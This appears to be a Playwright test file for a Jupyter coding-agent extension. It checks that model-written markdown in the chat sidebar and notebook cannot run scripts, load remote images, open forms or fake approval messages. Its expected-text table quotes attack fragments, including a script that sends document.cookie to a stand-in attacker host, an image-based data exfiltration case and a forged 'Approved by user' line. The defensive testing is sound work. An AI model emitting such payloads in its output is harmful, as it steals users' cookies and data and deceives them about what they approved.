"""What a model wrote does nothing where it is shown: in the sidebar, and in the notebook."""

import json
from pathlib import Path

import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
from playwright.sync_api import expect

from codeact_jupyter.hosts.drafts import shown
from codeact_jupyter.markdown import fenced

pytestmark = pytest.mark.own_page

DATA = Path(__file__).parents[1] / "data/chat_attacks.jsonl"
ATTACKS = {row["id"]: row["payload"] for row in map(json.loads, DATA.read_text().splitlines())}
MARKDOWN = {name: text for name, text in ATTACKS.items() if name != "out-error-html"}
GOOD = "**Bold**, $x^2$ and\n\n" + fenced("import os")

# What is read of some of them; the texts of all others are looked for as they are.
READ = {
    "chat-img-exfil": "ok (attacker.invalid)",
    "chat-img-ref": "ok (attacker.invalid)",
    "chat-link-data": "click (data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "chat-link-disguise": "https://jupyter.org (attacker.invalid)",
    "chat-script": "<script>fetch('https://attacker.invalid?c='+document.cookie)",
    "chat-onerror": "🖼 (x)",
    "chat-form": "<button>Approve",
    "chat-commandlinker": "Show result",
    "chat-fake-approval": "Approved by user ✅ — running…",
    "chat-diagram": "attacker.invalid/d.png",
    "chat-relative": "plot (plot.png) 🖼 (/files/plot.png) data (data.csv)",
    "chat-css": "styled",
    "chat-own-server": "/lab?reset) log in (/logout)",
}
HARMFUL = """node => [...node.querySelectorAll('*')].filter(each =>
  !each.closest('mjx-container') && !each.matches('.codeact-Body-table') && (
    /^(?:img|image|svg|iframe|form|button|input|style|script|link|base|video|math|figure)$/
      .test(each.localName) ||
    [...each.attributes].some(({name, value}) =>
      !/^(?:dir|align|start|class|href|target|rel)$/.test(name) || /jp-Dialog/.test(value)) ||
    each.href && (each.target !== '_blank' || each.rel !== 'noopener noreferrer' ||
      new URL(each.href).host !== 'attacker.invalid')) ||
  each.closest('mjx-container') && (
    each.hasAttribute('href') || each.id || /url\\(/.test(each.getAttribute('style') ?? ''))
).map(each => each.outerHTML)"""
WATCH = """() => {
  window.ran = [];
  jupyterapp.commands.commandExecuted.connect((_, {id}) => window.ran.push(id));
}"""
PRESS = """node => [...node.querySelectorAll('*')].forEach(each => {
  if (!each.closest('a.codeact-Body-link')) {
    each.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}));
    each.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));
  }
})"""


def cell_of(step, text, role="thought"):
    """A cell of a turn that the notebook shows as text, so that it is not its Markdown."""
    metadata = {"version": 1, "session": "s", "turn": "t", "step": step, "role": role, "model": "m"}
    return new_raw_cell(text, metadata={"codeact": metadata})


def failed(step):
    cell = new_code_cell("1 / 0", execution_count=1, metadata=cell_of(step, "", "action").metadata)
    words = ATTACKS["out-error-html"]
    error = new_output("error", ename="Error", evalue=words, traceback=[words])
    stream = new_output("stream", text=words)
    cell.outputs = [stream, error]
    return cell


@pytest.fixture
def asked(page):
    """What the page asks anybody for, but what it asks its own server for by itself."""
    asked = []
    own = ("/api/", "/lab/api/", "/static/", "/lsp/", "/terminals/")

    def look(request):
        _, _, path = request.url.removeprefix("http://").partition("/")
        mine = request.url.startswith("http://127.0.0.1:") and f"/{path}".startswith(own)
        if not mine and not request.url.startswith(("data:", "blob:")):
            asked.append(request.url)

    page.on("request", look)
    page.on("dialog", lambda dialog: (asked.append(dialog.message), dialog.dismiss()))
    page.context.on("page", lambda opened: asked.append(opened.url))
    return asked


@pytest.fixture
def shown_in_chat(open_book, page):
    """Show these cells in the sidebar, and return the texts in it."""

    def show(*cells):
        open_book(*cells, load=False)
        page.evaluate(WATCH)
        page.evaluate("jupyterapp.commands.execute('codeact:open-chat')")
        bodies = page.locator(".codeact-Sidebar .codeact-Body")
        expect(bodies.first).to_be_visible()
        return bodies

    return show


def test_nothing_that_a_model_wrote_does_anything_in_the_sidebar(
    page, lab, asked, shown_in_chat, subtests
):
    here = [text.replace("http://127.0.0.1:8888", lab.url) for text in MARKDOWN.values()]
    texts = [GOOD, *here]
    cells = [cell_of(step, text) for step, text in enumerate(texts)]
    bodies = shown_in_chat(*cells, failed(len(cells)))
    expect(bodies).to_have_count(len(texts))
    expect(bodies.first.locator("strong")).to_have_text("Bold")
    expect(bodies.first.locator("mjx-container")).to_have_count(1)
    expect(bodies.first.locator("code span").first).to_have_text("import")
    asked.clear()  # what the page needs to show formulas
    for body, name in zip(bodies.all()[1:], MARKDOWN, strict=True):
        with subtests.test(name):
            expect(body).not_to_be_empty()
            if name in READ:
                expect(body).to_contain_text(READ[name])
            body.scroll_into_view_if_needed()
            assert body.evaluate(HARMFUL) == []
            body.evaluate(PRESS)
    output = page.locator(".codeact-Sidebar-output")
    expect(output).to_contain_text(ATTACKS["out-error-html"])
    assert output.evaluate(HARMFUL) == []
    expect(page.locator(".jp-Dialog")).to_have_count(0)
    assert page.evaluate("window.attacked") is None
    assert page.evaluate("window.ran") == ["codeact:open-chat"]
    assert asked == []


def test_nothing_that_a_model_wrote_does_anything_in_the_notebook(page, asked, open_book):
    texts = [GOOD, *MARKDOWN.values()]
    open_book(*[new_markdown_cell(shown(text)) for text in texts], load=False)
    cells = page.locator(".jp-MarkdownCell .jp-RenderedMarkdown")
    expect(cells).to_have_count(len(texts))
    for cell in cells.all():
        cell.scroll_into_view_if_needed()
        expect(cell).not_to_be_empty()
    expect(cells.first.locator("mjx-container")).to_have_count(1)
    assert cells.locator("img, svg, iframe, form, button, [style*='url']").count() == 0
    assert page.evaluate("window.attacked") is None
    assert [url for url in asked if "/lab" not in url and "/doc/" not in url] == []


@pytest.mark.parametrize("text", ["A" * 10_000_000, "*a_ " * 50_000, "`a``b```c" * 20_000])
def test_a_huge_text_is_shown_in_part_and_the_page_goes_on(page, shown_in_chat, text):
    body = shown_in_chat(cell_of(0, text), cell_of(1, "And **then**?"))
    expect(body.nth(1).locator("strong")).to_have_text("then")
    expect(body.first.locator("pre")).to_have_text(text[:200_000])
    rest = body.first.locator(".codeact-Body-cut")
    if len(text) > 200_000:
        expect(rest).to_contain_text("200,000 of 10,000,000 characters")
    else:
        expect(rest).to_have_count(0)
